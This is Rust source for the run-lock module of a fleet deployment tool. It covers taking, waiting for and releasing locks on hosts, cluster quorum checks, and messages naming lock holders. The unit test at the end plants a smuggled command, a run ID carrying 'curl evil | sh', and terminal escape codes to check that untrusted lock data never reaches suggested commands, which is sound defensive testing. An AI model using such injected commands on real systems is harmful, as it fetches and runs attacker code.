//! The locks of a run: taken before it begins, or when a host is first reached that did not answer then.
//!
//! Nothing is changed on a host that has not granted its lock. Which locks that are is said in `wanted`.

use std::{
    collections::{BTreeMap, BTreeSet, HashMap},
    sync::{Arc, Mutex, OnceLock},
    time::Duration,
};

use futures_util::{StreamExt as _, stream};
use serde_json::Value;
use tokio::time::Instant;

use super::{
    context::Context,
    node::{NodeRun, Trouble},
    registered::lock,
    wanted::{Wanted, changes},
};
use crate::{
    inventory::HostId,
    model::{EventKind, Outcome, RunResult, one_line},
    remote::{LockAnswer, LockHolder, LockName, LockOwner, Release, RemoteError, Session},
    state::{Operator, RunId},
};

const FIRST_PAUSE: Duration = Duration::from_millis(200);
const LONGEST_PAUSE: Duration = Duration::from_secs(5);

/// What a run does about locks.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Locking {
    #[default]
    None,
    /// Takes none, and says who has them.
    Look,
    /// Takes them, and waits so long if others have them.
    Take(Duration),
}

/// Why a run may not begin.
pub(super) enum Refused {
    Held(Vec<String>),
    Interrupted,
    /// Nobody is left to keep the lock of a cluster.
    Unreachable(String),
}

/// What is known of the locks of a run while it lasts.
#[derive(Default)]
pub(super) struct Locks {
    wanted: OnceLock<Wanted>,
    /// Who we are, in the same words everywhere.
    about: OnceLock<String>,
    held: Mutex<BTreeMap<HostId, BTreeSet<LockName>>>,
    /// Hosts that may have a lock of ours: they granted it, or were lost while they did.
    touched: Mutex<BTreeSet<HostId>>,
    /// One at a time asks a host for a lock that it did not grant at first.
    late: Mutex<HashMap<HostId, Arc<tokio::sync::Mutex<()>>>>,
}

impl Locks {
    /// What the host has granted. Where one machine has many names it has many locks, and need not look at all of them.
    fn held_by(&self, host: HostId) -> Vec<LockName> {
        lock(&self.held).get(&host).into_iter().flatten().cloned().collect()
    }
}

type Answers = HashMap<HostId, Result<LockAnswer, RemoteError>>;

pub(super) async fn take(context: &Arc<Context>) -> Result<(), Refused> {
    match context.options.locking {
        Locking::None => Ok(()),
        Locking::Look => {
            let answers = ask(context, &Wanted::by(context), true).await;
            for msg in holders(context, &answers) {
                context.emitter.emit(EventKind::Warning { msg });
            }
            Ok(())
        }
        Locking::Take(patience) => {
            let wanted = context.locks.wanted.get_or_init(|| Wanted::by(context));
            take_all(context, wanted, patience).await
        }
    }
}

/// All of them or none; waits for others, if it may.
async fn take_all(context: &Arc<Context>, wanted: &Wanted, patience: Duration) -> Result<(), Refused> {
    let deadline = Instant::now() + patience;
    let mut pause = FIRST_PAUSE;
    loop {
        let answers = ask(context, wanted, false).await;
        let others = holders(context, &answers);
        if others.is_empty() {
            return match enough(context, wanted, &answers) {
                Ok(()) => {
                    keep(context, wanted, &answers);
                    Ok(())
                }
                Err(why) => {
                    release_new(context).await;
                    Err(Refused::Unreachable(why))
                }
            };
        }
        release_new(context).await;
        if Instant::now() + pause > deadline {
            return Err(Refused::Held(others));
        }
        if !context.pause(pause).await {
            return Err(Refused::Interrupted);
        }
        pause = (pause * 2).min(LONGEST_PAUSE);
    }
}

impl Refused {
    /// Says why, and how the run ends.
    pub(super) async fn tell(self, context: &Context) -> RunResult {
        let (messages, result) = match self {
            Self::Held(messages) => (messages, RunResult::LockHeld),
            Self::Interrupted => (Vec::new(), RunResult::Interrupted),
            Self::Unreachable(message) => (vec![message], RunResult::Unreachable),
        };
        messages.into_iter().for_each(|msg| context.emitter.emit(EventKind::Warning { msg }));
        let (run, execs) = (context.options.run_id.clone(), context.fleet.execs());
        context.emitter.emit(EventKind::RunFinished { run, seconds: 0.0, result, execs, plan: None });
        context.fleet.close(false).await;
        result
    }
}

impl From<Refused> for Trouble {
    fn from(refused: Refused) -> Self {
        match refused {
            Refused::Held(messages) => Self::failed(format!("not run: {}", messages.join("; "))),
            Refused::Interrupted => Self::failed("interrupted"),
            Refused::Unreachable(msg) => Self::Unreachable { msg, hint: None, sent: false },
        }
    }
}

impl NodeRun {
    /// Makes sure that the host has granted its lock before anything is changed there. Most have, at the start.
    /// `is_computed` for a target that nobody could know then.
    pub(super) async fn hold(&self, host: HostId, is_computed: bool) -> Result<(), Trouble> {
        let (context, locks) = (&self.context, &self.context.locks);
        let Some(wanted) = locks.wanted.get().filter(|_| changes(&self.task)) else { return Ok(()) };
        if !is_computed && lock(&locks.held).contains_key(&host) {
            return Ok(());
        }
        let turn = lock(&locks.late).entry(host).or_default().clone();
        let _turn = turn.lock().await;
        let needed = match wanted.keepers.get(&host).filter(|_| !is_computed) {
            Some(names) => Wanted { keepers: BTreeMap::from([(host, names.clone())]), clusters: BTreeSet::default() },
            None => Wanted::by_task(&context.inventory, host, &self.task),
        };
        let missing = needed.without(&lock(&locks.held));
        if missing.keepers.is_empty() {
            return Ok(());
        }
        take_late(context, &missing, host).await
    }
}

impl NodeRun {
    /// A guest whose key had to be learnt is a new machine. The lock that an old one of this name kept is gone with that one, and
    /// is taken again before anything is changed.
    pub(super) async fn meet_guest(&self, outcome: &Outcome) {
        if !self.task.module.traits.meets_host || !outcome.changed || self.check_mode() {
            return;
        }
        lock(&self.context.locks.held).remove(&self.host);
        self.context.fleet.link(self.host).leads_elsewhere().await;
    }
}

/// Takes locks in the midst of a run. Nobody waits here: two who did could wait for each other.
async fn take_late(context: &Arc<Context>, missing: &Wanted, host: HostId) -> Result<(), Trouble> {
    let answers = ask(context, missing, false).await;
    let others = holders(context, &answers);
    if !others.is_empty() {
        release_new(context).await;
        return Err(Refused::Held(others).into());
    }
    if let Some(Err(error)) = answers.get(&host) {
        let error = error.clone();
        release_new(context).await;
        return Err(no_lock(context, host, error));
    }
    if let Err(why) = enough(context, missing, &answers) {
        release_new(context).await;
        return Err(Refused::Unreachable(why).into());
    }
    keep(context, missing, &answers);
    Ok(())
}

fn no_lock(context: &Context, host: HostId, error: RemoteError) -> Trouble {
    if error.is_unreachable() {
        return error.into();
    }
    let host = context.graph.host(host);
    let hint = error.hint().map(str::to_owned);
    let msg = format!("{host} cannot store the lock of this run, so nothing is changed there: {error}");
    Trouble::Failed(Box::new(Outcome::failed(msg)), hint)
}

/// Releases everything that the run has, or may have, on hosts.
pub(super) async fn release(context: &Arc<Context>, how: Release) {
    let hosts = std::mem::take(&mut *lock(&context.locks.touched));
    release_on(context, hosts, how).await;
}

/// Releases what was just taken, in vain; what was held before stays.
async fn release_new(context: &Arc<Context>) {
    let new: BTreeSet<HostId> = {
        let held = lock(&context.locks.held);
        let mut touched = lock(&context.locks.touched);
        let new = touched.iter().filter(|host| !held.contains_key(host)).copied().collect();
        touched.retain(|host| held.contains_key(host));
        new
    };
    release_on(context, new, Release::Only).await;
}

async fn release_on(context: &Arc<Context>, hosts: BTreeSet<HostId>, how: Release) {
    let releasing = hosts.into_iter().map(|host| {
        let context = context.clone();
        async move {
            let (run, place) = (&context.options.run_id, &context.options.lock_dir);
            let names = context.locks.held_by(host);
            if let Err(error) = session(&context, host).release_locks(place, run, &names, how).await {
                let host = context.graph.host(host);
                let msg =
                    format!("{host} may still have the lock of this run ({error}); `etcdrun unlock {run}` removes it");
                context.emitter.emit(EventKind::Warning { msg });
            }
        }
    });
    stream::iter(releasing).buffer_unordered(context.options.forks.max(1)).collect::<Vec<()>>().await;
}

async fn ask(context: &Arc<Context>, wanted: &Wanted, look: bool) -> Answers {
    let options = &context.options;
    let about = context.locks.about.get_or_init(about).clone();
    let owner = Arc::new(LockOwner { run: options.run_id.clone(), about, place: options.lock_dir.clone() });
    let asking = wanted.keepers.clone().into_iter().map(|(host, names)| {
        let (context, owner) = (context.clone(), owner.clone());
        async move {
            let names: Vec<_> = names.into_iter().collect();
            (host, session(&context, host).take_locks(&names, &owner, look).await)
        }
    });
    let answers: Answers = stream::iter(asking).buffer_unordered(options.forks.max(1)).collect().await;
    if !look {
        let may_have = |answer: &Result<_, RemoteError>| matches!(answer, Ok(_) | Err(RemoteError::Lost(_)));
        let touched = answers.iter().filter(|(_, answer)| may_have(answer)).map(|(host, _)| *host);
        lock(&context.locks.touched).extend(touched);
    }
    answers
}

fn session(context: &Context, host: HostId) -> Session {
    context.fleet.own_session(host, context.options.locking == Locking::Look)
}

/// From now on these are held, and changes on the hosts need them.
fn keep(context: &Context, wanted: &Wanted, answers: &Answers) {
    let mut held = lock(&context.locks.held);
    for (host, answer) in answers {
        let (Ok(answer), Some(names)) = (answer, wanted.keepers.get(host)) else { continue };
        held.entry(*host).or_default().extend(names.iter().cloned());
        context.fleet.link(*host).add_fences(&answer.fences);
    }
}

/// A cluster needs most of its members; or, where they do not answer, a hypervisor that knows of it.
fn enough(context: &Context, wanted: &Wanted, answers: &Answers) -> Result<(), String> {
    for cluster in &wanted.clusters {
        let members = context.inventory.cluster(cluster).map_or(&[][..], |cluster| &cluster.members);
        let held = lock(&context.locks.held);
        let grants = |host: &HostId| held.contains_key(host) || answers.get(host).is_some_and(Result::is_ok);
        let granted = members.iter().filter(|host| grants(host)).count();
        if granted * 2 > members.len() {
            continue;
        }
        let hypervisors = members.iter().filter_map(|host| context.inventory.hypervisor_of(*host));
        let hypervisors: BTreeSet<_> = hypervisors.map(|host| host.id).collect();
        let keepers = hypervisors.iter().filter(|host| grants(host)).count();
        let what = format!("{granted} of {} members of `{cluster}` could be reached for its lock", members.len());
        if keepers == 0 {
            return Err(format!("only {what}, and none of their hypervisors"));
        }
        let mut msg = match granted {
            0 => format!(
                "no member of `{cluster}` answers (normal before the first deployment); the lock is held on their hypervisors"
            ),
            _ => format!("only {what}; it is held on their hypervisors"),
        };
        // A run is not refused for it: what is left after a disaster may be one machine.
        if keepers * 2 <= hypervisors.len() {
            msg += &format!(
                ", but only {keepers} of {} answer: an operator who reaches only the others could hold it as well, so make sure that no one else works on this cluster",
                hypervisors.len()
            );
        }
        context.emitter.emit(EventKind::Warning { msg });
    }
    Ok(())
}

/// Everybody who has what we want, in words, each once.
fn holders(context: &Context, answers: &Answers) -> Vec<String> {
    let mut told = BTreeMap::new();
    for (host, answer) in answers {
        for holder in answer.iter().flat_map(|answer| &answer.holders) {
            let (_, hosts) = told.entry(&holder.name).or_insert_with(|| (holder, BTreeSet::new()));
            hosts.insert(context.graph.host(*host).to_string());
        }
    }
    told.into_values().map(|(holder, hosts)| describe(holder, &hosts)).collect()
}

fn describe(holder: &LockHolder, hosts: &BTreeSet<String>) -> String {
    let (kind, name) = holder.name.split_once('-').unwrap_or(("", &holder.name));
    let (operator, since) = owner(&holder.about);
    let (who, alive) = match &operator {
        Some(it) => (format!("{}@{}, process {}", one_line(&it.user), one_line(&it.host), it.pid), it.is_alive()),
        None => ("somebody".to_owned(), None),
    };
    // Any account of the host may have written that file, and this is a command that people copy.
    let run = RunId::parse(&holder.run);
    let way_out = match (&run, alive) {
        (None, _) => format!(
            "that is not the ID of a run: inspect its lock on the host, and remove it there if no run of etcdrun created it ({})",
            one_line(&holder.name)
        ),
        (Some(_), Some(true)) => "it is still active: wait for it, or pass --lock-timeout".to_owned(),
        (Some(run), Some(false)) => format!(
            "that process is gone, so the run has crashed: to continue it, run `etcdrun resume {run}`; to break its lock, run `etcdrun unlock {run}`"
        ),
        (Some(run), None) => {
            format!(
                "check there whether it is still active; if not, run `etcdrun resume {run}` there, or `etcdrun unlock {run} --force`"
            )
        }
    };
    let hosts: Vec<_> = hosts.iter().map(String::as_str).collect();
    let (name, run, since) = (one_line(name), one_line(&holder.run), one_line(&since));
    format!("{kind} {name} is locked by run {run} of {who}, since {since}, on {}; {way_out}", hosts.join(", "))
}

/// Who we are, in one line that others can read.
fn about() -> String {
    let since = jiff::Timestamp::now().strftime("%Y-%m-%d %H:%M:%SZ").to_string();
    serde_json::json!({ "operator": Operator::me(), "since": since }).to_string()
}

/// What such a line says: who, and since when.
pub(super) fn owner(about: &str) -> (Option<Operator>, String) {
    let about: Value = serde_json::from_str(about).unwrap_or_default();
    let since = about["since"].as_str().unwrap_or("an unknown time").to_owned();
    (serde_json::from_value(about["operator"].clone()).ok(), since)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Any account of a host may write such a file.
    #[test]
    fn a_holder_that_is_no_run_is_in_no_command() {
        let about = serde_json::json!({
            "operator": { "user": "eve\n\x1b[2J", "host": "h", "pid": 1, "started": 1, "boot": "x" }, "since": "now\nthen",
        });
        let hosts = BTreeSet::from(["m1".to_owned()]);
        let told = |run: &str| {
            let holder = LockHolder { name: "cluster-prod".into(), run: run.into(), about: about.to_string() };
            describe(&holder, &hosts)
        };
        let hostile = told("x`; curl evil | sh #");
        assert!(hostile.contains("is not the ID of a run") && !hostile.contains("`etcdrun"), "{hostile}");
        assert!(!hostile.contains(char::is_control), "{hostile:?}");
        let usual = told("20261115T044500000Z-00ff");
        assert!(usual.contains("unlock 20261115T044500000Z-00ff"), "{usual}");
    }
}
